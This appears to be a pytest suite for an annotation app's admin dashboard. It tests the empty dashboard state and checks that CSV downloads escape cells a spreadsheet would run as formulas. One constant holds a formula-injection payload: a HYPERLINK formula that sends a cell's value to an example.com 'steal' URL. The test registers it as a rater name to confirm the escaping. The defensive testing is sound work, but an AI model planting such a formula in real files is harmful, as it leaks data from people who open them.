"""The admin dashboard: its empty state in a real browser, and CSV downloads that a spreadsheet
cannot run as formulas."""
from __future__ import annotations

import csv
import io
from pathlib import Path
from urllib.parse import unquote

import pandas as pd
import pytest
from gradio.utils import get_upload_folder
from hypothesis import given
from hypothesis import strategies as st

from annotate.csv_safety import FORMULA_START, csv_text, escape_cell
from annotate.judgement_frames import load_frames
from annotate.users import add_user
from app.dashboard import DAY_MS, throughput_plot, write_csvs
from db import Role
from tests import test_web
from tests.test_web import PASSWORD, open_as

# The annotation page's fixtures, shared by naming them here: the app on a free port with three
# open tasks and the accounts ann1, ann2 and boss (an admin).
app_url = test_web.app_url

FORMULA_RATER = '=HYPERLINK("http://example.com/steal?x="&A1,"click me")'


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("alice", "alice"), ("a=b", "a=b"), ("", ""), (-1.5, -1.5), (-3, -3), (None, None)])
def test_escape_cell(cell: object, shown: object) -> None:
    assert escape_cell(cell) == shown


def test_escaped_table_keeps_numbers_numeric() -> None:
    table = pd.DataFrame({"rater": ["-bob", "ann"], "bt_strength": [-0.5, 0.25],
                          "majority_agreement": [-0.125, "no shared tasks"]})
    rows = read_csv(csv_text(table))
    assert [r["rater"] for r in rows] == ["'-bob", "ann"]
    assert [r["bt_strength"] for r in rows] == ["-0.5", "0.25"]
    assert [r["majority_agreement"] for r in rows] == ["-0.125", "no shared tasks"]
    assert table.rater.tolist() == ["-bob", "ann"]  # the table itself is left alone


@given(st.lists(st.one_of(st.text(), st.floats(allow_nan=False, allow_infinity=False), st.integers()), min_size=1))
def test_no_text_cell_reads_back_as_a_formula(cells: list[object]) -> None:
    table = pd.DataFrame({"cell": pd.Series(cells, dtype=object)})
    back = [row["cell"] for row in read_csv(csv_text(table))]
    assert len(back) == len(cells)
    for cell, read in zip(cells, back, strict=True):
        if isinstance(cell, str):
            assert not read.startswith(FORMULA_START)
            assert read in (cell, "'" + cell)  # only a quote is ever added
        else:
            assert float(read) == pytest.approx(float(cell))  # type: ignore[arg-type]


def test_csv_files_are_escaped_and_reused(tmp_path: Path) -> None:
    tables = {"raters": pd.DataFrame({"rater": [FORMULA_RATER], "bt_strength": [-0.5]})}
    paths = write_csvs(tables, tmp_path)
    assert write_csvs(tables, tmp_path) == paths  # the same report again: the same files, not new ones
    assert len(list(tmp_path.iterdir())) == 1 and [Path(p).name for p in paths] == ["raters.csv"]
    (row,) = read_csv(Path(paths[0]).read_text())
    assert row == {"rater": "'" + FORMULA_RATER, "bt_strength": "-0.5"}


def test_one_days_judgements_on_a_date_axis(judged) -> None:  # type: ignore[no-untyped-def]
    with judged.transaction() as db:
        frames = load_frames(db)
    axis = throughput_plot(frames).layout.xaxis
    low, high = (pd.Timestamp(x) for x in axis.range)
    # the day of the judgements with half a day either side, a tick per day (not a 1 ms wide bar)
    assert axis.type == "date" and high - low == pd.Timedelta(days=1) and axis.dtick == DAY_MS


def compute(page) -> None:  # type: ignore[no-untyped-def]
    page.get_by_role("tab", name="Dashboard").click()
    page.locator("#dashboard-compute").click()


@pytest.mark.browser
def test_empty_dashboard_says_how_to_get_judgements(app_url: str, browser) -> None:  # type: ignore[no-untyped-def]
    admin, _ = open_as(browser, app_url, "boss")
    compute(admin)
    admin.wait_for_selector("text=/No judgements yet/", timeout=60_000)
    summary = admin.locator("#dashboard-summary").inner_text()
    assert "3 comparison tasks and no judgements" in summary
    assert "Annotate" in summary and "calibra import documents" in summary and "calibra simulate" in summary
    admin.wait_for_function("() => document.querySelectorAll('.js-plotly-plot').length >= 5", timeout=30_000)
    assert admin.get_by_text("No judgements", exact=True).count() == 5  # each plot says so
    assert admin.get_by_text("Error").count() == 0
    assert admin.locator("#dashboard-csv a").count() == 0  # nothing to download
    admin.locator("#filter-round").locator("textarea, input").first.fill("7")
    compute(admin)
    admin.wait_for_selector("text=/No judgements yet/", timeout=30_000)  # filters or not: there are none
    assert admin.get_by_text("Error").count() == 0


@pytest.mark.browser
def test_csv_downloads_escape_a_formula_in_a_rater_name(app_url: str, browser, ctx) -> None:  # type: ignore[no-untyped-def]
    from gradio_client import Client

    with ctx.transaction() as db:
        add_user(db, FORMULA_RATER, Role.ANNOTATOR, PASSWORD)
    for name in ("ann1", FORMULA_RATER):  # both judge the first task, through the API
        client = Client(app_url, auth=(name, PASSWORD), verbose=False)
        task = client.predict(api_name="/next_task")["task"]
        client.predict(task["assignment_id"], "A", {c: 5 for c in "ABCD"}, {c: True for c in "ABCD"}, "better",
                       api_name="/submit")

    admin, _ = open_as(browser, app_url, "boss")
    compute(admin)
    admin.wait_for_selector("text=/2\\s*judgements by\\s*2\\s*raters/", timeout=60_000)
    # one other rater per task: too few for a majority to agree with, and the table says so
    assert "no shared tasks" in admin.locator("#raters-table").inner_text()
    # the seeded tasks belong to no round: the win-rate plot says so instead of plotting "round -1"
    admin.wait_for_selector("text=/No comparisons between sources in tasks of a round/", timeout=30_000)
    admin.wait_for_selector("#dashboard-csv a", timeout=30_000)
    links = admin.locator("#dashboard-csv a").evaluate_all("links => links.map(a => a.href)")
    files = {Path(link.split("?")[0]).name: admin.request.get(link).text() for link in links}
    assert set(files) == {"agreement.csv", "raters.csv", "models.csv"}
    raters = {row["rater"]: row for row in read_csv(files["raters.csv"])}
    assert set(raters) == {"ann1", "'" + FORMULA_RATER}
    strengths = [row["bt_strength"] for row in read_csv(files["models.csv"])]
    assert any(s.startswith("-") and float(s) < 0 for s in strengths)  # negative numbers stay numbers
    for text in files.values():
        assert all(not cell.startswith(FORMULA_START) or float_like(cell)
                   for row in csv.reader(io.StringIO(text, newline="")) for cell in row)

    # served from Gradio's own cache, which owns them (no folder of ours left behind per click)
    cache = Path(get_upload_folder()).resolve()
    assert all(Path(unquote(link.split("/file=", 1)[1])).resolve().is_relative_to(cache) for link in links)

    admin.locator("#filter-rater").locator("textarea, input").first.fill("nobody")
    compute(admin)
    admin.wait_for_selector("text=/No judgements match these filters/", timeout=30_000)
    assert "rater 'nobody'" in admin.locator("#dashboard-summary").inner_text()
    assert admin.get_by_text("Error").count() == 0


def float_like(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
